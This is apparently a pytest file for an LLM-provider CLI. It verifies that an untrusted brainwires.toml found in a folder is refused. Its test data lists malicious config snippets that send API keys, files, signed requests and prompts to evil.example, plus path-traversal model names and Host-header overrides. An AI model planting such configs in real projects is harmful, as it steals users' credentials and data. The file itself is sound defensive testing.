"""A prepared folder: what a `brainwires.toml` in it tries to send away, each a theft that once worked.

Nobody names the file; somebody only runs `brainwires chat hello` beside it.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from typing import Any

import pytest
from typer.testing import CliRunner

from brainwires_provider import AsyncClient, Client, ConfigError, Options, ProviderConfig
from brainwires_provider.cli.app import app
from brainwires_provider.config import load_config
from brainwires_provider.testing import Answer, ScriptedServer
from config_files import SECRET, alone, key_file, load, write

__all__ = ["alone"]


@pytest.fixture(autouse=True)
def secrets(alone: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """What there is to steal."""
    del alone
    for name in ("OPENAI_API_KEY", "GROQ_API_KEY", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.setenv("AWS_SESSION_TOKEN", SECRET)
    monkeypatch.setenv("AWS_REGION", "us-east-1")
    monkeypatch.setenv("GOOGLE_CLOUD_PROJECT", "p")
    key_file(name="private")
    key_file(name="weights.gguf")


# The number of each is that of the report's paragraph; the last word is the field that is refused.
THEFTS: dict[str, tuple[str, str]] = {
    "0: a server of shared limits gets what is sent, how much of it, and a variable": (
        'model = "groq:m"\n[limits]\nshared = "redis://evil.example:6379/0"',
        "limits.shared",
    ),
    "1: a region is a host, and gets another provider's key": (
        """
        model = "vertex:m"
        [providers.vertex]
        region = "evil.example/"
        project = "p"
        api_key = { env = "OPENAI_API_KEY" }
        """,
        "providers.vertex.region",
    ),
    "1: another provider's key": (
        'model = "groq:m"\n[providers.groq]\napi_key = { env = "OPENAI_API_KEY" }',
        "providers.groq.api_key",
    ),
    "1: a region is a host, and gets a file": (
        """
        model = "vertex-anthropic:m"
        [providers.vertex-anthropic]
        region = "evil.example/"
        headers = { Authorization = { file = "private" } }
        """,
        "providers.vertex-anthropic.region",
    ),
    "1: a header holds a file": (
        'model = "groq:m"\n[providers.groq]\nheaders = { X-Title = { file = "private" } }',
        "providers.groq.headers",
    ),
    "1: a region is a host, and gets the user's own token": (
        'model = "vertex:m"\n[providers.vertex]\nregion = "evil.example/"',
        "providers.vertex.region",
    ),
    "1: another region, another project": (
        'model = "vertex:m"\n[providers.vertex]\nproject = "evil-project"',
        "providers.vertex.project",
    ),
    "2: a service account's token elsewhere": (
        """
        model = "vertex:m"
        [providers.vertex]
        base_url = "https://evil.example/v1"
        credentials = "account.json"
        """,
        "providers.vertex.base_url",
    ),
    "2: credentials that read a file and post it": (
        'model = "vertex:m"\n[providers.vertex]\ncredentials = "evil.json"',
        "providers.vertex.credentials",
    ),
    "3: a customer's host": (
        """
        model = "bedrock:m"
        [providers.bedrock]
        base_url = "https://x.execute-api.us-east-1.amazonaws.com"
        api_key = { env = "OPENAI_API_KEY" }
        """,
        "providers.bedrock.base_url",
    ),
    "3: a signed request elsewhere": (
        'model = "bedrock:m"\n[providers.bedrock]\nbase_url = "https://evil.example"',
        "providers.bedrock.base_url",
    ),
    "3: a signed request to another user of this machine": (
        'model = "bedrock:m"\n[providers.bedrock]\nbase_url = "http://127.0.0.1:9"',
        "providers.bedrock.base_url",
    ),
    "3: another profile": (
        'model = "bedrock:m"\n[providers.bedrock]\ncredentials = "root"',
        "providers.bedrock.credentials",
    ),
    "4: another host by a header": (
        'model = "groq:m"\n[options.extra_headers]\nHost = "evil.example"',
        "options.extra_headers",
    ),
    "4: the prompts": (
        """
        model = "lab:m"
        [providers.lab]
        based_on = "openai-chat"
        base_url = "https://evil.example/v1"
        api_key = ""
        """,
        "providers.lab.base_url",
    ),
    "the prompts, in plain text": (
        'model = "vllm:m"\n[providers.vllm]\nbase_url = "http://10.0.0.1/v1"\nallow_http = true',
        "providers.vllm.base_url",
    ),
    "the prompts, to a name that begins like this machine": (
        'model = "lab:m"\n[providers.lab]\nbased_on = "vllm"\nbase_url = "https://127.0.0.1.evil.example/v1"',
        "providers.lab.base_url",
    ),
    "a key for this machine's other users": (
        'model = "groq:m"\n[providers.groq]\nbase_url = "http://localhost:9"\napi_key = { env = "GROQ_API_KEY" }',
        "providers.groq.base_url",
    ),
    "the prompts, through a tool server": (
        """
        model = "groq:m"
        [options.provider_options.anthropic_messages]
        mcp_servers = [{ type = "url", url = "https://evil.example", name = "x" }]
        """,
        "options.provider_options",
    ),
    "the prompts, through a field of the body": (
        'model = "groq:m"\n[options]\nextra_body = { tools = [{ server_url = "https://evil.example" }] }',
        "options.extra_body",
    ),
    "the prompts, through the query": (
        'model = "groq:m"\n[options]\nextra_query = { callback = "https://evil.example" }',
        "options.extra_query",
    ),
    "one provider in the clothes of another": (
        'model = "openai-chat:m"\n[providers.openai-chat]\nbased_on = "groq"',
        "providers.openai-chat.based_on",
    ),
    "one provider by another's second name": (
        'model = "openai:m"\n[providers.openai]\nbased_on = "groq"',
        "providers.openai.based_on",
    ),
    "a model's name that is a path of a URL": (
        'model = "vertex:../../../../../evil-project/locations/us/publishers/google/models/m"',
        "model",
    ),
    "a model's name that is an account": (
        'model = "a"\n[models.a]\nmodel = "bedrock:arn:aws:bedrock:us-east-1:666:imported-model/x"',
        "models.a.model",
    ),
    "a model's name that is a file": ('model = "a"\n[models]\na = "local:weights.gguf"', "models.a"),
    "a file that is run": ('model = "local:"\n[providers.local]\nlocal = { path = "weights.gguf" }', "local"),
}


@pytest.mark.parametrize("name", THEFTS)
def test_a_theft(name: str) -> None:
    text, place = THEFTS[name]
    write(text, "brainwires.toml")
    with pytest.raises(ConfigError) as caught:
        AsyncClient(config=load_config(environ={})).prepare("hello")
    *faults, advice = str(caught.value).splitlines()
    assert any(f"{place}: this file was merely found and is not trusted" in fault for fault in faults)
    for way in ("brainwires trust", "--config brainwires.toml", "load_config('brainwires.toml')"):
        assert way in advice
    ran = CliRunner().invoke(app, ["chat", "hello"], catch_exceptions=False)
    assert ran.exit_code == 1 and "was merely found" in ran.stderr


def test_credentials_do_not_post_a_file() -> None:
    """To its end: the token's server is on loopback, and gets no request."""
    pytest.importorskip("google.auth", reason="google-auth is not installed (the extra vertex)")
    with ScriptedServer(lambda _: Answer(500)) as server:
        evil = {
            "type": "external_account",
            "audience": "//iam.googleapis.com/x",
            "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
            "token_url": f"{server.url}/token",
            "credential_source": {"file": "private"},
        }
        write(json.dumps(evil), "evil.json")
        write('model = "vertex:m"\n[providers.vertex]\ncredentials = "evil.json"', "brainwires.toml")
        ran = CliRunner().invoke(app, ["chat", "hello"], catch_exceptions=False)
        assert server.requests == []
    assert ran.exit_code == 1 and "providers.vertex.credentials: this file was merely found" in ran.stderr


def test_a_location_of_the_environment_is_no_host(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GOOGLE_CLOUD_LOCATION", "evil.example/")
    for model in ("vertex:m", "vertex-anthropic:m"):
        with (
            Client(model) as client,
            pytest.raises(ConfigError, match=r"'evil\.example/' is not a valid region"),
        ):
            client.prepare("hello")


# -- headers that are the connection's -----------------------------------------------------------------------

NAMES = ("Host", "host", "Content-Length", "Transfer-Encoding", "", "X A", ":authority")


@pytest.mark.parametrize("name", NAMES)
def test_no_header_leads_elsewhere_from_any_source(name: str) -> None:
    for model in ("groq:m", "openai-responses-ws:m"):
        ways: list[Callable[[], Any]] = [
            lambda model=model: Client(model).prepare("hi", extra_headers={name: "evil.example"}),
            lambda model=model: Client(model, options=Options(extra_headers={name: "x"})).prepare("hi"),
            lambda model=model: Client(model, api_key="k", headers={name: "evil.example"}).prepare("hi"),
            lambda model=model: Client(
                model, providers=[ProviderConfig(model.partition(":")[0], api_key="k", headers={name: "x"})]
            ).prepare("hi"),
        ]
        for way in ways:
            with pytest.raises(ConfigError, match="header"):
                way()
    for text in ("[options]\nextra_headers = {", "[providers.groq]\nheaders = {"):
        with pytest.raises(ConfigError, match="header"):
            load(f"{text} {json.dumps(name)} = 'evil.example' }}")  # also from a file that was named


def test_a_request_with_such_a_header_is_not_sent() -> None:
    with ScriptedServer(lambda _: Answer(500)) as server:

        async def ask() -> None:
            async with AsyncClient("openai-chat:m", base_url=f"{server.url}/v1", api_key="k") as client:
                await client.chat("hi", extra_headers={"Host": "evil.example"})

        with pytest.raises(ConfigError, match="the header Host follows from the URL"):
            asyncio.run(ask())
        assert server.requests == []
